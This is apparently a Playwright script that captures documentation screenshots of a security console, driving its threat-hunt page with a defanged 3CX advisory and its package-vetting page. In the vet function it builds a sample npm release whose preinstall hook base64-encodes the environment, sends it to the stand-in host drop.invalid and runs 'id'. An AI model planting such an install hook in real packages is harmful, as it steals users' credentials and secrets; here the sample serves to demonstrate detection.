// Writes pictures of every page, at the width of a desk and of a telephone, to docs/images: `node scripts/screenshots.ts LINK [FOLDER]`.
// LINK is the one-time link that `gatehouse serve` printed; FOLDER with evidence is given to the console first, as a person would.
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { openBrowser } from '../test/support/browser.ts'
import { temporaryFolder } from '../test/support/cli.ts'
import { askAs, settled, setUpAccount, visit } from '../test/support/console.ts'
import { packTarball } from '../test/support/pack.ts'

const [link = '', folder = ''] = process.argv.slice(2)
const images = join(import.meta.dirname, '..', 'docs', 'images')
const sizes = [
  { name: '', width: 1440, height: 900 },
  { name: '-narrow', width: 390, height: 844 },
] as const
const quality = 72
const patience = 900_000

async function giveEvidence(page: Page, address: string): Promise<void> {
  await visit(page, `${address}/evidence`)
  await page.getByLabel('Choose a folder').last().setInputFiles(folder)
  await page.getByRole('link', { name: 'how far it is' }).click({ timeout: patience })
  await page.getByText('succeeded').first().waitFor({ timeout: patience })
}

/** A warning to hunt for, as publishers wrote it in 2023, with names that nobody can reach. */
async function hunt(page: Page, address: string): Promise<string> {
  await visit(page, `${address}/hunt`)
  await page.getByText('Paste the text of a warning').click()
  await page
    .getByLabel('Text of the warning')
    .fill(
      'Title: Supply chain attack through a telephone client\n\n3CX Desktop App 18.12.407 and 18.12.416 for Windows were tampered with.\n\nCommand and control: akamaicontainer[.]invalid, msstorageazure[.]invalid, officestoragebox[.]invalid, glcloudservice[.]invalid\n',
    )
  await page.getByRole('button', { name: 'Hunt', exact: true }).click()
  await page.getByRole('link', { name: 'What came of it' }).click({ timeout: patience })
  await page.waitForURL(/hunt\/./)
  await settled(page)
  return page.url()
}

/** A release that gained a hook which sends the environment away, and the one before it. */
async function vet(page: Page, address: string): Promise<string> {
  using made = temporaryFolder()
  const manifest = (version: string, scripts: object) => JSON.stringify({ name: 'left-lantern', version, main: 'index.js', scripts })
  const code = { 'index.js': 'module.exports = (text) => text.trim()\n', 'readme.md': '# left-lantern\n' }
  const hook =
    "const { exec } = require('child_process'); const https = require('https'); https.get('https://drop.invalid/' + Buffer.from(JSON.stringify(process.env)).toString('base64'), () => exec('id'))\n"
  const write = (name: string, bytes: Buffer) => {
    writeFileSync(join(made.path, name), bytes)
    return join(made.path, name)
  }
  const before = write('left-lantern-1.4.0.tgz', packTarball({ ...code, 'package.json': manifest('1.4.0', {}) }))
  const now = write('left-lantern-1.4.1.tgz', packTarball({ ...code, 'setup.js': hook, 'package.json': manifest('1.4.1', { preinstall: 'node setup.js' }) }))
  await visit(page, `${address}/software/vetted`)
  await page.getByLabel('Choose the release', { exact: true }).last().setInputFiles(now)
  await page.getByLabel('Choose the one before').last().setInputFiles(before)
  await page.getByRole('button', { name: 'Vet it' }).click()
  await page.getByRole('link', { name: 'What came of it' }).click({ timeout: patience })
  await page.waitForURL(/vetted\/./)
  return page.url()
}

async function take(page: Page, name: string, url: string): Promise<void> {
  for (const size of sizes) {
    await page.setViewportSize(size)
    await visit(page, url)
    await page.evaluate(() => document.fonts.ready)
    await page.waitForTimeout(1500)
    await page.screenshot({ path: join(images, `console-${name}${size.name}.jpg`), type: 'jpeg', quality })
  }
}

mkdirSync(images, { recursive: true })
const browser = await openBrowser()
const page = await browser.newPage({ colorScheme: 'light', viewport: sizes[0] })
page.setDefaultTimeout(60_000)
await setUpAccount(page, link)
const address = new URL(link).origin
if (folder !== '') await giveEvidence(page, address)
const gravest = async (list: string) => (await askAs<{ readonly items: readonly { readonly id: string }[] }>(page, `/${list}?limit=1`)).items[0]?.id ?? ''
const pages: readonly (readonly [name: string, url: string])[] = [
  ['hunt', await hunt(page, address)],
  ['vetting', await vet(page, address)],
  ['overview', address],
  ['incidents', `${address}/incidents`],
  ['incident', `${address}/incidents/${await gravest('incidents')}`],
  ['finding', `${address}/incidents/findings/${await gravest('findings')}`],
  ['rows', `${address}/hunt/rows?table=contact`],
  ['software', `${address}/software`],
  ['product', `${address}/software/products/3CX%20Desktop%20App`],
  ['entity', `${address}/entity/destination/akamaicontainer.invalid`],
  ['posture', `${address}/posture`],
  ['evidence', `${address}/evidence?part=gaps`],
  ['settings', `${address}/settings`],
]
for (const [name, url] of pages) await take(page, name, url)
await browser.close()
